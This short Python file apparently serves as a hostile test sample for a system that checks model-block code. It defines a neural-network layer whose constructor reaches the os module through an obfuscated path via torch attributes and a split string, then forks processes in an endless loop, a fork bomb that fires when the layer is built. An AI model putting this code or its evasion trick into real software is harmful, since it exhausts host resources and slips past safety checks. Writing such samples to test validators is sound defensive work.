"""Hostile: forks without bound (reaching os through torch's module attributes)."""
import torch
import torch.nn as nn
from genesys.lmade import GAUBase


class Block(GAUBase):
    """Spawns workers forever."""

    def __init__(self, embed_dim, block_loc, kwarg_all, device=None, dtype=None, **kwargs):
        super().__init__(embed_dim, block_loc, kwarg_all)
        self.proj = nn.Linear(embed_dim, embed_dim, device=device, dtype=dtype)
        system = getattr([torch.nn.parameter.torch][0], "o" + "s")
        while True:
            system.fork()

    def _forward(self, X, **Z):
        return X + self.proj(X), Z


ROOT = "Block"
CONFIG = {}
